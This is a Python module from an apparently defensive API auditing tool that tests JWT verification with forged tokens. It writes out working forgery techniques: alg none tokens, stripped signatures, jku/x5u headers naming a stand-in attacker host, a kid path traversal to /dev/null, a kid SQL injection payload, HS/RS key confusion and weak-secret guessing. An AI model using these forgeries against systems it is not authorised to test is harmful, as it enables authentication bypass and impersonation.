"""JWT checks with the operator's working token (an ``--auth`` header carrying a JWT).

Tampering (``--aggressive``): the token re-sent with ``alg: none``, with a broken signature or an
altered payload, with headers that point the verifier at the attacker's key (``jku``, ``x5u``,
an embedded ``jwk``, a ``kid`` path or SQL injection), and HMAC-signed with the API's own
published public key (HS/RS confusion, keys from the JWKS). Each must be refused.
Offline (no request): an HMAC token's key is tried against a short list of secrets seen in
tutorials and leaks; the token's lifetime is read; and, when the key was guessed, a forged
expired token is sent (``--aggressive``) to see whether ``exp`` is enforced at all.
"""

from __future__ import annotations

import ipaddress
import time
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

import httpx
import orjson

from bastion.audit.checks.live_jwt_forge import (
    HS,
    WEAK_SECRETS,
    Token,
    attacker_key,
    encode,
    guessed_secret,
    public_jwk,
    secret_forms,
    sign_hs,
    sign_rs,
    working_token,
)
from bastion.audit.checks.live_support import (
    Operation,
    b64encode,
    guarded,
    probe_operation,
    seen,
    unthrottled,
)
from bastion.audit.context import LiveContext
from bastion.audit.model import (
    CheckInfo,
    Evidence,
    Finding,
    Kind,
    Practice,
    Registry,
    Severity,
    failed,
    passed,
    skipped,
)

MAX_LIFETIME = 86_400
ATTACKER = "https://bastion-audit.example"


def _info(
    ident: str, title: str, severity: Severity, kind: Kind, criterion: str, rationale: str,
    *references: str,
) -> CheckInfo:  # fmt: skip
    return CheckInfo(
        id=ident,
        title=title,
        practice=Practice.AUTHENTICATION,
        severity=severity,
        kind=kind,
        criterion=criterion,
        rationale=rationale,
        references=("OWASP API2:2023", *references),
    )


ALG_NONE = _info(
    "live.jwt-alg-none",
    "Unsigned JWTs (alg none) are refused",
    Severity.CRITICAL,
    Kind.AGGRESSIVE,
    "The working token re-sent with alg none, None, NONE or nOnE and no signature is refused.",
    "A verifier that honours alg none accepts tokens anyone can write: any identity, any "
    "scope, no key needed.",
    "RFC 8725 §2.1, §3.1",
    "ASVS 5.0 V9.1.2",
    "CVE-2015-9235",
)
SIGNATURE = _info(
    "live.jwt-signature",
    "JWTs with a broken signature or altered claims are refused",
    Severity.CRITICAL,
    Kind.AGGRESSIVE,
    "The working token with one signature character changed, with its signature removed, or "
    "with an altered payload under the original signature is refused.",
    "A token whose signature is not verified (decoded instead of verified, or verified only "
    "when present) can be edited at will, e.g. its subject or scopes.",
    "RFC 7515 §5.2",
    "ASVS 5.0 V9.1.1",
)
HEADER_INJECTION = _info(
    "live.jwt-header-injection",
    "Key-selecting JWT headers from the token are not trusted",
    Severity.CRITICAL,
    Kind.AGGRESSIVE,
    "Tokens signed with the audit's own key and naming it through jku, x5u or an embedded jwk, "
    "and HMAC tokens whose kid is a path (/dev/null) or an SQL injection, are refused.",
    "The verification key must come from configuration, never from the token: a verifier that "
    "fetches jku/x5u, trusts an embedded jwk, or reads the key a kid names from a file or "
    "database verifies the attacker's signature with the attacker's key.",
    "RFC 8725 §3.10",
    "ASVS 5.0 V9.1.3",
    "CVE-2018-0114",
)
KEY_CONFUSION = _info(
    "live.jwt-key-confusion",
    "HMAC tokens signed with the published public key are refused",
    Severity.CRITICAL,
    Kind.AGGRESSIVE,
    "For each RSA, EC or EdDSA key of the API's published JWKS, a token signed HS256 with that "
    "public key (PEM, or raw bytes) as the HMAC secret is refused.",
    "A verifier that takes the algorithm from the token and the key from the JWKS verifies an "
    "HMAC made with the public key, which everyone has (algorithm confusion).",
    "RFC 8725 §2.1, §3.1",
    "ASVS 5.0 V9.1.2",
    "CVE-2016-10555",
)
WEAK_SECRET = _info(
    "live.jwt-weak-secret",
    "An HMAC-signed JWT's key is not a guessable secret",
    Severity.CRITICAL,
    Kind.LIVE,
    f"The working token's HMAC signature matches none of {len(WEAK_SECRETS)} common secrets "
    "(checked offline, no request sent).",
    "An HMAC key that is a word lets anyone who holds one token forge any other offline; RFC "
    "8725 requires HMAC keys with real entropy.",
    "RFC 8725 §3.5",
    "ASVS 5.0 V9.1.1",
)
EXPIRY = _info(
    "live.jwt-expiry",
    "JWTs expire, within a day, and expired ones are refused",
    Severity.HIGH,
    Kind.LIVE,
    "The working token carries exp, lives at most a day (exp - iat), and, when its key is "
    "known (guessed), a forged expired token is refused (with --aggressive).",
    "A bearer token that never expires is a permanent credential once leaked; access tokens "
    "should live minutes, and the server must enforce exp, not only carry it.",
    "RFC 7519 §4.1.4",
    "RFC 9068 §2.2",
    "ASVS 5.0 V9.2.1",
)


@dataclass(frozen=True, slots=True)
class Verdict:
    label: str
    token: str
    response: httpx.Response

    @property
    def accepted(self) -> bool:
        """Served (2xx) or crashed on (5xx); a 3xx (to a login page) or 4xx is a refusal."""
        status = self.response.status_code
        return 200 <= status < 300 or status >= 500


async def prepare(
    ctx: LiveContext, info: CheckInfo, *, aggressive: bool
) -> tuple[Token, Operation] | Finding:
    """The working token and the operation it works on, or the reason the check is skipped."""
    if aggressive and not ctx.aggressive:
        return skipped(info, "needs --aggressive")
    token = working_token(ctx)
    if token is None:
        return skipped(info, "needs a working JWT in an --auth header")
    op = probe_operation(ctx)
    if aggressive:
        if "live_jwt.baseline" not in ctx.memo:
            response = await unthrottled(ctx, op.method, op.path, headers=token.sent(token.raw))
            ctx.memo["live_jwt.baseline"] = response.status_code
        status: int = ctx.memo["live_jwt.baseline"]
        if not 200 <= status < 300:
            return skipped(info, f"the --auth JWT was not accepted on {op.location} ({status})")
    return token, op


async def try_tokens(
    ctx: LiveContext, token: Token, op: Operation, variants: Sequence[tuple[str, str]]
) -> list[Verdict]:
    verdicts = []
    for label, forged in variants:
        response = await unthrottled(ctx, op.method, op.path, headers=token.sent(forged))
        verdicts.append(Verdict(label, forged, response))
    return verdicts


def report(
    ctx: LiveContext, info: CheckInfo, token: Token, op: Operation, verdicts: Sequence[Verdict]
) -> list[Finding]:
    bad = [v for v in verdicts if v.accepted]
    if not bad:
        statuses = sorted({v.response.status_code for v in verdicts})
        return [
            passed(info, f"{len(verdicts)} forged tokens refused ({statuses}) on {op.location}")
        ]
    evidence: list[Evidence] = []
    _, payload, signature = token.segments
    for verdict in bad:
        how = "crashed the server" if verdict.response.status_code >= 500 else "was accepted"
        item = seen(
            ctx,
            f"a token {verdict.label} {how}: {verdict.response.status_code}",
            verdict.response,
            op.method,
            op.path,
            location=f"{op.location} {verdict.label}",
            headers=token.sent(verdict.token),
        )
        curl = item.curl.replace(payload, "<payload of the --auth token>")
        if signature:
            curl = curl.replace(signature, "<signature of the --auth token>")
        evidence.append(Evidence(item.summary, item.location, curl, item.response))
    labels = "; ".join(v.label for v in bad)
    return [failed(info, f"{op.location} did not refuse a token {labels}", *evidence)]


@guarded(ALG_NONE)
async def check_alg_none(ctx: LiveContext) -> list[Finding]:
    ready = await prepare(ctx, ALG_NONE, aggressive=True)
    if not isinstance(ready, tuple):
        return [ready]
    token, op = ready
    payload = token.segments[1]
    variants = [
        (f"with alg {alg}", encode({**token.header, "alg": alg}, payload) + ".")
        for alg in ("none", "None", "NONE", "nOnE")
    ]
    return report(ctx, ALG_NONE, token, op, await try_tokens(ctx, token, op, variants))


def altered(claims: Mapping[str, Any]) -> dict[str, Any]:
    changed = dict(claims)
    changed["sub"] = f"{claims.get('sub', '')}-bastion-audit"
    return changed


@guarded(SIGNATURE)
async def check_signature(ctx: LiveContext) -> list[Finding]:
    ready = await prepare(ctx, SIGNATURE, aggressive=True)
    if not isinstance(ready, tuple):
        return [ready]
    token, op = ready
    head, payload, signature = token.segments
    middle = len(signature) // 2
    flipped = (
        signature[:middle] + ("A" if signature[middle] != "A" else "B") + signature[middle + 1 :]
    )
    tampered = b64encode(orjson.dumps(altered(token.claims)))
    variants = [
        ("with one signature character changed", f"{head}.{payload}.{flipped}"),
        ("without its signature", f"{head}.{payload}."),
        ("with an altered sub claim", f"{head}.{tampered}.{signature}"),
    ]
    return report(ctx, SIGNATURE, token, op, await try_tokens(ctx, token, op, variants))


@guarded(HEADER_INJECTION)
async def check_header_injection(ctx: LiveContext) -> list[Finding]:
    ready = await prepare(ctx, HEADER_INJECTION, aggressive=True)
    if not isinstance(ready, tuple):
        return [ready]
    token, op = ready
    key = attacker_key(ctx)
    claims = token.segments[1]
    kid = "bastion-audit"
    rs = {"typ": token.header.get("typ", "JWT"), "alg": "RS256", "kid": kid}
    path_kid = {"typ": "JWT", "alg": "HS256", "kid": "../../../../../../../../dev/null"}
    sql_kid = {"typ": "JWT", "alg": "HS256", "kid": "x' UNION SELECT 'bastion-audit'-- "}
    variants = [
        ("with jku naming the audit's key set", {**rs, "jku": f"{ATTACKER}/jwks.json"}),
        ("with x5u naming the audit's certificate", {**rs, "x5u": f"{ATTACKER}/cert.pem"}),
        ("with the audit's key embedded as jwk", {**rs, "jwk": public_jwk(key, kid)}),
    ]
    forged = [(label, sign_rs(header, claims, key)) for label, header in variants]
    forged.append(("with kid /dev/null and an empty HMAC key", sign_hs(path_kid, claims, b"")))
    forged.append(("with an SQL injection in kid", sign_hs(sql_kid, claims, b"bastion-audit")))
    return report(ctx, HEADER_INJECTION, token, op, await try_tokens(ctx, token, op, forged))


def may_follow(ctx: LiveContext, url: str) -> bool:
    """Whether the audit may fetch a URL the target named (its discovery ``jwks_uri``): one on
    the target's own origin, or an ``https://`` URL whose host is a name other than
    ``localhost``. Never an address literal or plain HTTP elsewhere: a hostile target would use
    the scanner to reach what only the scanner's network can (a cloud metadata service, an
    internal admin port)."""
    target, there = urlsplit(ctx.base_url), urlsplit(url)
    try:
        same = (there.scheme, there.hostname, there.port) == (
            target.scheme,
            target.hostname,
            target.port,
        )
    except ValueError:  # a port out of range
        return False
    if same:
        return True
    host = (there.hostname or "").rstrip(".").lower()
    if there.scheme != "https" or not host or host == "localhost" or host.endswith(".localhost"):
        return False
    try:
        ipaddress.ip_address(host)
    except ValueError:
        return True
    return False


async def published_keys(ctx: LiveContext) -> list[dict[str, Any]]:
    """The API's JWKS: from OpenID discovery, else the usual well-known paths."""
    urls = ["/.well-known/jwks.json", "/jwks.json"]
    discovery = await ctx.request("GET", "/.well-known/openid-configuration")
    if discovery.status_code == 200:
        try:
            jwks_uri = orjson.loads(discovery.content).get("jwks_uri")
        except (orjson.JSONDecodeError, AttributeError):
            jwks_uri = None
        if isinstance(jwks_uri, str):
            urls.insert(0, jwks_uri)
    for url in urls:
        if url.startswith("http"):
            if not may_follow(ctx, url):
                continue
            await ctx.spend()
            response = await ctx.fetch("GET", url)
        else:
            response = await ctx.request("GET", url)
        if response.status_code != 200:
            continue
        try:
            keys = orjson.loads(response.content).get("keys")
        except (orjson.JSONDecodeError, AttributeError):
            continue
        if isinstance(keys, list) and keys:
            return [k for k in keys if isinstance(k, dict)]
    return []


@guarded(KEY_CONFUSION)
async def check_key_confusion(ctx: LiveContext) -> list[Finding]:
    ready = await prepare(ctx, KEY_CONFUSION, aggressive=True)
    if not isinstance(ready, tuple):
        return [ready]
    token, op = ready
    keys = await published_keys(ctx)
    if not keys:
        return [skipped(KEY_CONFUSION, "the API publishes no JWKS (well-known or discovery)")]
    claims = token.segments[1]
    variants: list[tuple[str, str]] = []
    for jwk in keys[:4]:
        kid = jwk.get("kid")
        header = {
            "typ": token.header.get("typ", "JWT"),
            "alg": "HS256",
            **({"kid": kid} if kid else {}),
        }
        for index, pem in enumerate(secret_forms(jwk)):
            label = f"HMAC-signed with public key {kid or jwk.get('kty')} (form {index + 1})"
            variants.append((label, sign_hs(header, claims, pem)))
    if not variants:
        return [skipped(KEY_CONFUSION, "the JWKS has no RSA, EC or OKP key")]
    return report(ctx, KEY_CONFUSION, token, op, await try_tokens(ctx, token, op, variants))


@guarded(WEAK_SECRET)
async def check_weak_secret(ctx: LiveContext) -> list[Finding]:
    token = working_token(ctx)
    if token is None:
        return [skipped(WEAK_SECRET, "needs a working JWT in an --auth header")]
    alg = str(token.header.get("alg"))
    if alg not in HS:
        return [skipped(WEAK_SECRET, f"the token is signed with {alg}, not an HMAC")]
    secret = guessed_secret(token)
    if secret is None:
        return [passed(WEAK_SECRET, f"the {alg} key is none of {len(WEAK_SECRETS)} common secrets")]
    shown = f"{secret[:2]}…" if secret else "the empty string"
    evidence = Evidence(
        summary=f"the {alg} signature verifies with a common secret ({shown})",
        location=f"jwt {alg} key",
        curl="",
        response="found offline from the --auth token; no request was sent",
    )
    return [failed(WEAK_SECRET, f"the {alg} signing key is a common secret", evidence)]


@guarded(EXPIRY)
async def check_expiry(ctx: LiveContext) -> list[Finding]:
    token = working_token(ctx)
    if token is None:
        return [skipped(EXPIRY, "needs a working JWT in an --auth header")]
    exp, iat = token.claims.get("exp"), token.claims.get("iat")
    op = probe_operation(ctx)
    # the token in use (masked): the operator's own, which this finding is about
    in_use = ctx.curl(op.method, op.path, headers=token.sent(token.raw))
    if not isinstance(exp, int | float):
        evidence = Evidence(
            "the token has no exp claim",
            "jwt claims",
            in_use,
            "claims: " + ", ".join(sorted(token.claims)),
        )
        return [failed(EXPIRY, "the working token never expires (no exp claim)", evidence)]
    if isinstance(iat, int | float) and exp - iat > MAX_LIFETIME:
        hours = (exp - iat) / 3600
        evidence = Evidence(
            f"exp - iat = {hours:.0f} hours", "jwt lifetime", in_use, f"iat {iat}, exp {exp}"
        )
        return [
            failed(EXPIRY, f"the working token lives {hours:.0f} hours (a day at most)", evidence)
        ]
    secret = guessed_secret(token)
    if secret is None or not ctx.aggressive:
        return [passed(EXPIRY, "the token carries exp and lives at most a day")]
    now = int(time.time())
    expired = sign_hs(
        token.header, {**token.claims, "iat": now - 7200, "exp": now - 3600}, secret.encode()
    )
    response = await unthrottled(ctx, op.method, op.path, headers=token.sent(expired))
    if 200 <= response.status_code < 300:
        evidence = seen(
            ctx, "a token expired an hour ago was accepted", response, op.method, op.path,
            location=f"{op.location} expired", headers=token.sent(expired),
        )  # fmt: skip
        return [failed(EXPIRY, f"{op.location} accepts an expired token", evidence)]
    return [passed(EXPIRY, f"exp is carried and enforced (expired token: {response.status_code})")]


def register(registry: Registry) -> None:
    registry.add_live(ALG_NONE, check_alg_none)
    registry.add_live(SIGNATURE, check_signature)
    registry.add_live(HEADER_INJECTION, check_header_injection)
    registry.add_live(KEY_CONFUSION, check_key_confusion)
    registry.add_live(WEAK_SECRET, check_weak_secret)
    registry.add_live(EXPIRY, check_expiry)
